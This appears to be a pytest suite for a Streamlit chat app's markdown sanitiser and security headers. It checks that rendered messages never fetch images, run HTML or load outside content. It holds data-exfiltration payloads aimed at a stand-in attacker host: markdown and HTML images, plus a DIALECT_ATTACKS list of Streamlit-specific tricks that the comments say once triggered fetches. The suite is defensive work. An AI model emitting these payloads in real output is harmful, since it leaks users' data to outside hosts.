"""Safe rendering: no message makes the browser fetch an image or run HTML, read as
markdown-it reads it and as Streamlit's own Markdown does; and the security headers, the
line that holds when rendering does not."""

from __future__ import annotations

import html
import re
import string
import textwrap

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from starlette.applications import Starlette
from starlette.middleware import Middleware
from starlette.requests import Request
from starlette.responses import PlainTextResponse, Response, StreamingResponse
from starlette.routing import Route
from starlette.testclient import TestClient

from parley.app_pages.rendering import WORD_JOINER, highlighted, plain_label, safe_markdown
from parley.app_pages.security_headers import (
    SecurityHeaders,
    content_security_policy,
    security_headers,
)

# A renderer that passes raw HTML through (stricter than Streamlit's, which drops it),
# with the GitHub tables and strikethrough Streamlit renders.
HTML = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
LEAK = "https://attacker.example/?d=secret"


def html_of(text: str) -> str:
    return HTML.render(safe_markdown(text))


def test_inline_and_reference_images_are_never_images() -> None:
    for text in (
        f"Here: ![chart]({LEAK})",
        f'![]({LEAK} "title")',
        f"![chart][r]\n\n[r]: {LEAK}",
        f"![chart]\n\n[chart]: {LEAK}",
        f"<img src='{LEAK}'>",
        f'<p><img src="{LEAK}"/></p>',
    ):
        rendered = html_of(text)
        assert "<img" not in rendered, (text, rendered)
        assert "attacker.example" in rendered  # what it was is shown, as text


def test_an_image_names_itself_and_its_address() -> None:
    assert safe_markdown(f"![chart]({LEAK})") == f"[image not loaded: chart] (`{LEAK}`)"


def test_links_show_their_target() -> None:
    shown = safe_markdown("See [the docs](https://docs.example/x) now.")
    assert shown == "See [the docs](https://docs.example/x) (`https://docs.example/x`) now."
    assert safe_markdown("[https://a.example](https://a.example)") == (
        "[https://a.example](https://a.example)"
    )
    hidden = html_of(f"[harmless][r]\n\n[r]: {LEAK}")
    assert "<a " not in hidden and "attacker.example" in hidden  # shown, not a hidden link


def test_html_is_shown_as_text() -> None:
    rendered = html_of("<script>alert(1)</script> and <b>bold</b>")
    assert "<script>" not in rendered and "<b>" not in rendered
    assert "&lt;script&gt;" in rendered


def test_code_is_left_exactly_as_written() -> None:
    text = (
        "Use `![x](y)` inline.\n\n```html\n<img src='a.png'>\n![x](y)\n```\n\n    <b>indented</b>\n"
    )
    shown = safe_markdown(text)
    assert "`![x](y)`" in shown
    assert "```html\n<img src='a.png'>\n![x](y)\n```" in shown
    assert "    <b>indented</b>" in shown
    assert "<img" not in html_of(text).replace("&lt;img", "")  # only as code text


def test_text_built_to_misplace_a_code_span_is_escaped_whole() -> None:
    for text in ("`\n`<img src=x>`", "\\`<img src=x>`", "`\n\n<img src=x>`", "`<img src=x>```"):
        rendered = html_of(text)
        assert "<img" not in rendered, (text, rendered)


def test_an_image_hidden_in_a_table_cell_is_caught() -> None:
    text = f"| h | i |\n|---|---|\n| `a | ![x]({LEAK}) b` |\n"
    assert "<img" not in html_of(text)


def test_titles_show_as_the_characters_they_are() -> None:
    title = f"![]({LEAK}) **bold** <b>x</b> [a](b) | c"
    rendered = HTML.render(plain_label(title))
    assert "<img" not in rendered and "<strong>" not in rendered and "<a " not in rendered
    assert "<b>" not in rendered
    text_only = re.sub(r"<[^>]+>", "", rendered).strip()
    shown = text_only.replace("&lt;", "<").replace("&gt;", ">").replace("&quot;", '"')
    assert shown.replace(WORD_JOINER, "") == title


def test_plain_text_is_unchanged() -> None:
    text = "# Title\n\n- one\n- **two** and *three*\n\n1 < 2 and 3 > 2; a [bracket] here."
    assert safe_markdown(text) == text


@settings(max_examples=300, deadline=None)
@given(
    st.lists(
        st.sampled_from(
            [
                "![",
                "](",
                ")",
                "[",
                "]",
                ":",
                "<img src=x>",
                "<",
                "`",
                "```",
                "\n",
                " ",
                LEAK,
                "a",
                "!",
                '"t"',
                "\\",
                "<https://x.example>",
                "|",
                "\n|---|---|\n",
            ]
        ),
        max_size=30,
    ).map("".join)
)
def test_no_text_renders_an_image_or_a_tag(text: str) -> None:
    rendered = html_of(text)
    assert not re.search(r"<img\b", rendered), (text, rendered)
    assert not re.search(
        r"<(?!/?(p|a|code|pre|em|strong|br|ul|ol|li|h\d|hr|blockquote"
        r"|table|thead|tbody|tr|th|td|s)\b)[a-z]",
        rendered,
    ), (
        text,
        rendered,
    )


# ------------------------------------------------ Streamlit's dialect, beyond markdown-it's

# How Streamlit's frontend reads prose, modelled apart from the module under test:
# react-markdown with remark-gfm (bare addresses run to the next space or `<`, through
# backticks; footnotes), remark-math (a `$` opens math) and remark-directive (`:name`,
# its `[label]` and `{attributes}`), and Mermaid drawing a block whose language starts so.
# Blocks are found as CommonMark and GFM tables find them (both parsers agree there); in
# each block's text, a code span is a backtick run closed by the next run of the same
# length, unless something before it took the backtick.
BLOCKS = MarkdownIt("commonmark", {"html": False}).enable(["table"])
# A bare address: `http` not after a letter, `www.` after a space, `(`, `*`, `_` or `~`.
BARE_ADDRESS = re.compile(r"(?i)(?:(?<![A-Za-z])https?://|(?<![^\s(*_~])www\.)[^\s<]*")
IMAGE = re.compile(r"!\[[^\]]*(?=\])")
DESTINATION = re.compile(
    r"\]\(\s*(?:<[^<>\n]*>|(?:[^\s()<]|\([^\s()<]*\))*)(?:\s+(?:\"[^\"]*\"|'[^']*'))?\s*\)"
)
HTML_TAG = re.compile(r"<(?:[A-Za-z][A-Za-z0-9-]*|/[A-Za-z]|!|\?)")


def streamlit_reads(text: str) -> set[str]:
    """What in `text` Streamlit would render that could fetch: an image, HTML, math,
    a directive, a footnote or a diagram (a conservative reading: a lone `$` counts)."""
    found: set[str] = set()
    env: dict[str, dict[str, object]] = {}
    text = textwrap.dedent(text).strip()  # as st.markdown sends it (`clean_text`)
    for token in BLOCKS.parse(text, env):
        language = re.match(r"\w*", (token.info.split() or [""])[0])
        if token.type == "fence" and language and language[0].lower() == "mermaid":
            found.add("diagram")
        if token.type == "inline":
            found |= inline_reads(token.content, references=bool(env.get("references")))
    if any(label.startswith("^") for label in env.get("references", {})):
        found.add("footnote")
    return found


def inline_reads(src: str, *, references: bool = False) -> set[str]:
    found: set[str] = set()
    openers = 0  # `[` seen, not yet closed: a `](…)` after one is a link's target
    i = 0
    while i < len(src):
        rest = src[i:]
        if rest[0] == "\\" and rest[1:2] and rest[1] in string.punctuation:
            i += 2
        elif rest[0] == "`":
            run = len(re.match(r"`+", rest)[0])  # type: ignore[index]
            close = re.compile(rf"(?<!`)`{{{run}}}(?!`)").search(src, i + run)
            i = close.end() if close else i + run  # a code span: nothing in it counts
        elif address := BARE_ADDRESS.match(src, i):
            i = address.end()  # a link, whatever it swallows
        elif openers and (destination := DESTINATION.match(src, i)):
            i = destination.end()  # a link's target: never read as prose
            openers -= 1
        else:
            openers = max(0, openers + (rest[0] == "[") - (rest[0] == "]"))
            if rest[0] == "$":
                found.add("math")
            elif re.match(r":[A-Za-z]", rest):
                found.add("directive")
            elif rest.startswith("[^"):
                found.add("footnote")
            elif (image := IMAGE.match(rest)) and (
                references
                or DESTINATION.match(rest, image.end())
                or rest[image.end() + 1 :][:1] == "["
            ):
                found.add("image")  # `![alt](…)`, `![alt][…]`, or a shortcut to a definition
            elif HTML_TAG.match(rest):
                found.add("html")
            i += 1
    return found


# Each hides an image (or KaTeX, or a diagram that fetches) from a checker that reads
# another dialect; most made Streamlit 1.67 fetch their address in Chromium through the
# checker as it was. The browser test plants them all again.
DIALECT_ATTACKS = [
    f"Math hides code: $`$ ![m]({LEAK}) `$`",
    f"$\\includegraphics{{{LEAK}}}$ and $$\\href{{{LEAK}}}{{x}}$$",
    f"$$\n```\n$$\n![f]({LEAK})\n```",
    f':x{{a="`"}} ![d]({LEAK}) `',
    f"A tooltip renders its label: :help[\\!\\[h\\]({LEAK})]",
    f"https://a.example/`x ![a]({LEAK}) `",
    f"See www.a.example/`y ![w]({LEAK}) `",
    f"Footnote[^1]\n\n[^1]: ![n]({LEAK})",
    f'```mermaid\nflowchart TD\n  A@{{ img: "{LEAK}", label: "x", pos: "t", w: 60, h: 60 }}\n```',
    f'```Mermaid-x\nflowchart TD\n  A@{{ img: "{LEAK}" }}\n```',
    # Code to markdown-it; st.markdown dedents it on the server, and it is an image.
    f"\n\n    ![x]({LEAK})\n    more",
]


def test_the_model_sees_each_attack() -> None:
    for text in DIALECT_ATTACKS:
        assert streamlit_reads(text) & {"image", "math", "directive", "diagram", "footnote"}, text


def test_streamlits_dialect_finds_nothing_in_a_made_safe_answer() -> None:
    for text in DIALECT_ATTACKS:
        shown = safe_markdown(text)
        assert streamlit_reads(shown) == set(), (text, shown)
        assert "<img" not in HTML.render(shown), (text, shown)


def test_dollars_are_text_and_code_keeps_them() -> None:
    assert safe_markdown("It costs $5, or $10 with tax.") == "It costs \\$5, or \\$10 with tax."
    assert safe_markdown("Already \\$5.") == "Already \\$5."
    assert safe_markdown("An escaped backslash \\\\$x$") == "An escaped backslash \\\\\\$x\\$"
    code = "Run `echo $HOME` or:\n\n```sh\nexport A=$B\n```"
    assert safe_markdown(code) == code


def test_directives_and_footnotes_are_text_but_emoji_and_icons_stay() -> None:
    shown = safe_markdown(":red[alert] at 12:30 :smile: :material/home: note[^1]")
    assert shown == "\\:red[alert] at 12:30 \\:smile: \\:material/home: note\\[^1]"
    # Streamlit turns `:smile:` and `:material/home:` in the text into an emoji and an icon
    # after parsing, so an escaped colon still shows them; no directive is parsed.
    assert safe_markdown("a `:red[x]` b") == "a `:red[x]` b"


def test_an_address_running_into_code_is_broken_and_others_are_left() -> None:
    assert safe_markdown("https://a.example/`x` y") == "https\\://a.example/`x` y"
    assert safe_markdown("www.a.example/`x` y") == "www\\.a.example/`x` y"
    plain = "See https://a.example/x and www.b.example, then `code`."
    assert safe_markdown(plain) == plain


def test_a_mermaid_block_is_shown_as_code() -> None:
    diagram = "```mermaid\ngraph TD\n  A-->B\n```"
    assert safe_markdown(diagram) == "```text\ngraph TD\n  A-->B\n```"
    assert safe_markdown("> ~~~ Mermaid-x\n> graph TD\n> ~~~").startswith("> ~~~text\n")


def test_an_image_target_holding_backticks_stays_one_code_span() -> None:
    shown = safe_markdown(f"![x]({LEAK}`a)")
    assert shown == f"[image not loaded: x] (``{LEAK}`a``)"
    assert "<img" not in HTML.render(shown) and streamlit_reads(shown) == set()


@settings(max_examples=400, deadline=None)
@given(
    st.lists(
        st.sampled_from(
            [
                "$",
                "$$",
                "`",
                "```",
                "```mermaid",
                "\n",
                " ",
                ":x",
                ':x{a="`"}',
                ":help[",
                "[^1]",
                "[^1]: ",
                "https://a.example/",
                "www.a.example/",
                "![",
                "](",
                ")",
                "[",
                "]",
                "\\",
                "|",
                "\n|---|---|\n",
                "<img src=x>",
                LEAK,
                "a",
                "    ",
                "> ",
            ]
        ),
        max_size=30,
    ).map("".join)
)
def test_no_text_shows_streamlit_anything_that_fetches(text: str) -> None:
    shown = safe_markdown(text)
    assert streamlit_reads(shown) == set(), (text, shown)
    assert not re.search(r"<img\b", HTML.render(shown)), (text, shown)


# --------------------------------------------------------------------------------- labels


def rendered_text(markdown: str) -> str:
    """What a reader sees of `markdown` (the characters, tags stripped)."""
    return html.unescape(re.sub(r"<[^>]+>", "", HTML.render(markdown))).strip()


MARKUP = ["&lt;", "&#36;", "&amp;", "![", "](", ":red[", "$", "www.", "https://", "<b>", "[^1]"]


@settings(max_examples=300, deadline=None)
@given(
    st.lists(
        st.sampled_from(MARKUP)
        | st.text(alphabet=st.characters(codec="ascii", exclude_categories=["Cc"]), max_size=4),
        max_size=12,
    ).map("".join)
)
def test_a_label_shows_as_exactly_its_characters(name: str) -> None:
    label = plain_label(name)
    assert rendered_text(label).replace(WORD_JOINER, "") == " ".join(name.split())
    assert streamlit_reads(label) == set()


def test_a_file_name_that_is_markdown_shows_as_its_name() -> None:
    name = f"![x]({LEAK}) notes &lt;b&gt; $x$ :red[y].md"
    assert rendered_text(plain_label(name)).replace(WORD_JOINER, "") == name
    assert streamlit_reads(plain_label(name)) == set()


@pytest.mark.parametrize(
    "name",
    ["![x](http://127.0.0.1:9/x) notes.md", "see https://evil.example/a", "www.evil.example"],
)
def test_a_label_holds_no_address_that_gfm_would_link(name: str) -> None:
    """remark-gfm links bare addresses in any text node, escaped or not: a label's
    address is broken by an invisible word joiner, so it shows but never links."""
    seen = rendered_text(plain_label(name))
    assert seen.replace(WORD_JOINER, "") == name
    assert not re.search(r"(?i)\b(?:https?|ftp)://|\bwww\.", seen)


# ------------------------------------------------------------ the second line: the headers


def test_the_policy_loads_nothing_from_elsewhere() -> None:
    page = "<html><script>window.x = 1</script><script src='./a.js'></script></html>"
    parts = [part.split() for part in content_security_policy(page).split(";")]
    policy = {name: sources for name, *sources in parts}
    assert policy["default-src"] == ["'self'"]
    assert policy["frame-ancestors"] == ["'none'"] and policy["object-src"] == ["'none'"]
    for directive in ("img-src", "font-src", "media-src", "connect-src", "frame-src"):
        assert set(policy[directive]) <= {"'self'", "data:", "blob:"}, directive
    # The page's one inline script by its hash (the one with a src needs none); no eval.
    assert policy["script-src"] == [
        "'self'",
        "'wasm-unsafe-eval'",
        "'sha256-TRQHTtKk2Jz9TNrGZb+BnTJZb+vLVfeW/a0aaZ7avUM='",
    ]


def test_the_installed_streamlit_page_has_its_inline_script_allowed() -> None:
    policy = security_headers()["Content-Security-Policy"]
    assert re.search(r"script-src [^;]*'sha256-[A-Za-z0-9+/=]+'", policy)


def test_every_response_gets_the_headers_and_its_own_are_replaced() -> None:
    def plain(_request: Request) -> Response:
        return PlainTextResponse("ok", headers={"X-Content-Type-Options": "sniff-away"})

    def streamed(_request: Request) -> Response:
        return StreamingResponse(iter([b"a", b"b"]), media_type="text/plain")

    app = Starlette(
        routes=[Route("/plain", plain), Route("/streamed", streamed)],
        middleware=[Middleware(SecurityHeaders)],
    )
    expected = security_headers()
    with TestClient(app) as client:
        for path in ("/plain", "/streamed", "/missing"):
            response = client.get(path)
            for name, value in expected.items():
                assert response.headers.get_list(name) == [value], (path, name)
        assert client.get("/streamed").text == "ab"


def test_a_streaming_answer_is_drawn_at_once_then_at_most_every_interval() -> None:
    from parley.app_pages.rendering import Pacer

    now = [0.0]
    pacer = Pacer(0.1, clock=lambda: now[0])
    drawn = []
    for step in range(30):  # a word every 30 ms for 0.9 s
        now[0] = step * 0.03
        if pacer.due():
            drawn.append(round(now[0], 2))
    assert drawn[0] == 0.0  # the first text shows at once
    gaps = [b - a for a, b in zip(drawn, drawn[1:], strict=False)]
    assert all(gap >= 0.1 - 1e-9 for gap in gaps)
    assert 7 <= len(drawn) <= 10  # about ten a second, not thirty


def test_a_snippet_shows_its_matches_in_bold_and_the_rest_as_plain_text() -> None:
    text = "see ![x](http://e/) and *tulips*   here <b>"
    start = text.index("tulips")
    shown = highlighted(text, [(start, start + 6)])
    rendered = HTML.render(shown)
    assert "<strong>tulips</strong>" in rendered
    assert "<img" not in rendered and "<a " not in rendered and "<em>" not in rendered
    assert "<b>" not in rendered  # the snippet's own tag stays text
    assert highlighted("a b", [(2, 1), (0, 1), (0, 3)]) == "**a** b"  # bad spans: plain
    assert highlighted("", []) == ""
